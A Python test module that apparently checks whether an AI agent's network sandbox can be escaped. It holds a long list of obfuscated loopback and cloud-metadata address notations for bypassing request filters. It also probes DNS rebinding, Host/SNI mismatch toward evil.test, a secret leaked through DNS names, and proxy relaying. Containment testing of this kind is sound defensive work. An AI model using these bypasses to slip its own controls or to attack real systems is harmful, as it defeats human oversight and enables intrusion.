"""Group G: ways out. Allowed is good.test, and nothing else; whatever else hears of the agent is an escape."""

from __future__ import annotations

import socket
import subprocess
import sys
from contextlib import ExitStack
from pathlib import Path
from typing import Any

from internet import ALLOWED, FORBIDDEN, METADATA, Resolver, Service
from model import Result, script
from world import World

POLICY = "escape-net"
PROXY_PORT = 9480
NAMES = {
    "good.test": [ALLOWED],
    "evil.test": [FORBIDDEN],
    "meta.test": [METADATA],
    "home.test": ["127.0.0.1"],
}
# Ways to write 127.0.0.1, the metadata service and their kind.
LITERALS = [
    "127.0.0.1", "127.1", "127.0.1", "2130706433", "0x7f000001", "0x7f.1", "0177.0.0.1", "0177.1", "127.000.000.001",
    "0.0.0.0", "0", "[::1]", "[::]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[0:0:0:0:0:ffff:7f00:0001]",
    "[64:ff9b::7f00:1]", "[2002:7f00:1::]", "[fe80::1]", "[fd00:ec2::254]", "localhost", "localhost.", "LOCALHOST",
    "ip6-localhost", "169.254.169.254", "0xa9fea9fe", "2852039166", "[::ffff:169.254.169.254]", "home.test", "meta.test",
]  # fmt: skip


class Internet:
    """Services for one script, and what is typed to the client."""

    def __init__(self, w: World, side: Any, names: dict[str, list[str]] | None = None) -> None:
        self.w, self.side, self.stack = w, side, ExitStack()
        self.resolver = self.keep(Resolver({name: list(addresses) for name, addresses in (names or NAMES).items()}))

    def keep(self, service: Any) -> Any:
        self.stack.callback(service.close)
        return service

    def service(self, address: str, port: int) -> Service:
        return self.keep(Service(address, port))

    def __enter__(self) -> "Internet":
        return self

    def __exit__(self, *_: object) -> None:
        self.stack.close()

    def client(self, *lines: str, proxy: bool = True, policy: str = POLICY) -> str:
        """Each line an attempt; the output, or nothing when the client did not come to its end."""
        source = self.w.file(self.w.workspace / "net_client.py", Path(__file__).with_name("net_client.py").read_text())
        port = str(PROXY_PORT if proxy and self.side.fenced else 0)
        command = ["/usr/bin/python3", str(source), port]
        text = "".join(line + "\n" for line in lines)
        if self.side.fenced:
            ran = self.side.run_fenced(command, self.w, policy=policy, stdin=None, input=text, timeout=400, client_options=("--unattended",))
        else:
            ran = subprocess.run(command, input=text, capture_output=True, text=True, timeout=400, cwd=self.w.workspace)
        return ran.stdout if ran.stdout.endswith("done\n") else f"ended early: {ran.stdout[-300:]} {ran.stderr[-300:]}"


def tried(output: str, results: list[Result]) -> list[Result]:
    if not output.endswith("done\n"):
        return [Result("client", None, output)]
    return results


@script("NET-01")
def straight_out(w: World, side: Any) -> list[Result]:
    """To a service of this machine, to the internet, over TCP and UDP, past every proxy."""
    with Internet(w, side) as net:
        local, remote = net.service("127.0.0.1", 8081), net.service(FORBIDDEN, 8081)
        datagrams = w.listener("udp")
        output = net.client(f"tcp 127.0.0.1 {local.port}", f"tcp {FORBIDDEN} 8081", f"udp 127.0.0.1 {datagrams.port}", proxy=False)
        return tried(output, [Result("local", local.visits > 0), Result("remote", remote.visits > 0), Result("udp", datagrams.accepted > 0)])


@script("NET-02")
def around_the_redirect(w: World, side: Any) -> list[Result]:
    """Ways to send that no redirect of ordinary connections sees: multipath, and datagrams to any port."""
    with Internet(w, side) as net:
        service, datagrams = net.service(FORBIDDEN, 8085), w.listener("udp")
        side.run(w, "connect_tcp", FORBIDDEN, "8085", "262", **({"policy": POLICY} if side.fenced else {}))
        output = net.client(f"udp 127.0.0.1 {datagrams.port}", proxy=False)
        return tried(output, [Result("multipath", service.visits > 0), Result("datagram", datagrams.accepted > 0)])


@script("NET-03")
def written_otherwise(w: World, side: Any) -> list[Result]:
    """Addresses of this machine and of its provider in every notation, through the proxy in every way."""
    with Internet(w, side) as net:
        services = [net.service(address, 8082) for address in ("127.0.0.1", METADATA)]
        lines = [f"{way} {literal} 8082" for way in ("connect", "socks", "uri") for literal in LITERALS]
        output = net.client(*lines)
        reached = [line.split("\t")[0] for line in output.splitlines() if "reached" in line]
        visits = sum(service.visits for service in services)
        return tried(output, [Result("reached", visits > 0, f"{visits} visits: {reached[:5]}")])


@script("NET-04")
def names_that_lie(w: World, side: Any) -> list[Result]:
    """An allowed name that stands for the provider's metadata, at once or from its second answer on."""
    names = {**NAMES, "good.test": [ALLOWED, METADATA], "meta.test": [METADATA]}
    with Internet(w, side, names) as net:
        metadata = net.service(METADATA, 80)
        net.service(ALLOWED, 80)
        output = net.client("connect meta.test 80", *["connect good.test 80"] * 3, "uri good.test 80", policy="escape-net-meta")
        return tried(output, [Result("metadata", metadata.visits > 0, output[-200:])])


@script("NET-05")
def nothing_allowed(w: World, side: Any) -> list[Result]:
    """A policy whose list is empty."""
    with Internet(w, side) as net:
        service = net.service(ALLOWED, 80)
        output = net.client("tcp good.test 80", "connect good.test 80", "uri good.test 80", policy="escape-net-empty")
        return tried(output, [Result("reached", service.visits > 0, output[-200:])])


@script("NET-06")
def said_otherwise(w: World, side: Any) -> list[Result]:
    """The name in the request is not the name that was allowed."""
    with Internet(w, side) as net:
        good, evil, tls = net.service(ALLOWED, 80), net.service(FORBIDDEN, 80), net.service(ALLOWED, 443)
        output = net.client("mismatch good.test evil.test 80", "second good.test evil.test 80", "sni good.test evil.test 443")
        fronted = any(b"evil.test" in heard for heard in good.heard)
        named = any(b"evil.test" in heard for heard in tls.heard)
        return tried(output, [Result("host", fronted, output[:300]), Result("second", evil.visits > 0), Result("sni", named)])


@script("NET-08")
def secrets_in_names(w: World, side: Any) -> list[Result]:
    """Names that nobody allowed, asked of every resolver in reach, and of the proxy."""
    with Internet(w, side) as net:
        secret = "s3cr3t.evil.test"
        output = net.client(f"name {secret}", f"connect {secret} 80", f"socks {secret} 80", f"uri {secret} 80", f"udp {FORBIDDEN} 53")
        asked = [name for name in net.resolver.asked if secret in name]
        return tried(output, [Result("asked", bool(asked), f"{asked}")])


@script("NET-09")
def doors_from_outside(w: World, side: Any) -> list[Result]:
    """The proxy of one run cannot be reached from the machine, nor from another run."""
    if not side.fenced:
        why = "without a fence there is no proxy to use"
        return [Result("door", None, why, "none", why)]
    with Internet(w, side) as net:
        net.service(ALLOWED, 80)
        started = side.start_fenced(["/bin/sleep", "20"], w, policy=POLICY, client_options=("-d",), stderr=subprocess.DEVNULL)
        run = started.communicate()[0].strip()
        if not run.startswith("r-"):
            return [Result("door", None, f"no run whose door there is: {run}")]
        outside = subprocess.run([sys.executable, str(Path(__file__).with_name("net_client.py")), str(PROXY_PORT)], input="connect good.test 80\n",
                                 capture_output=True, text=True, timeout=60)
        other = net.client("connect good.test 80", policy="escape")
        side.client_call(w, "kill", run)
        return [Result("outside", "reached" in outside.stdout, outside.stdout[:120]), Result("other", "reached" in other, other[:120])]


@script("NET-10")
def relayed(w: World, side: Any) -> list[Result]:
    """The proxy is told to call itself, the daemon's machine, or what another process inside offers."""
    with Internet(w, side) as net:
        local = net.service("127.0.0.1", 8083)
        lines = [f"connect 127.0.0.1 {PROXY_PORT}", "connect localhost 8083", "socks 127.0.0.1 8083", f"uri 127.0.0.1 {PROXY_PORT}", "connect 10.77.0.1 15001"]
        output = net.client(*lines) if side.fenced else net.client("connect localhost 8083")
        return tried(output, [Result("reached", local.visits > 0, output[:300])])


@script("NET-13")
def proxy_ignored(w: World, side: Any) -> list[Result]:
    """Programs that know of no proxy: what is allowed works for them too, and what is not does not."""
    with Internet(w, side) as net:
        good, evil = net.service(ALLOWED, 80), net.service(FORBIDDEN, 80)
        output = net.client("tcp good.test 80", "tcp evil.test 80", f"tcp {FORBIDDEN} 80", f"udp {FORBIDDEN} 443", proxy=False)
        results = [Result("evil", evil.visits > 0, output[:300])]
        if side.fenced and good.visits == 0:
            results.append(Result("good", None, f"what is allowed does not work: {output[:300]}"))
        return tried(output, results)


@script("NET-12")
def listening_inside(w: World, side: Any) -> list[Result]:
    """A server inside, on every address, is not reached from the machine."""
    program = "import socket,time\ns=socket.socket();s.bind(('0.0.0.0',8084));s.listen();print('up',flush=True);time.sleep(20)"
    command = ["/usr/bin/python3", "-c", program]
    if side.fenced:
        process = side.start_fenced(command, w, policy=POLICY)
    else:
        process = subprocess.Popen(command, stdout=subprocess.PIPE, text=True)
    try:
        assert process.stdout is not None
        if process.stdout.readline() != "up\n":
            return [Result("reached", None, "the server inside did not start")]
        try:
            socket.create_connection(("127.0.0.1", 8084), 2).close()
            return [Result("reached", True)]
        except OSError as error:
            return [Result("reached", False, str(error))]
    finally:
        process.terminate()
        process.wait(20)
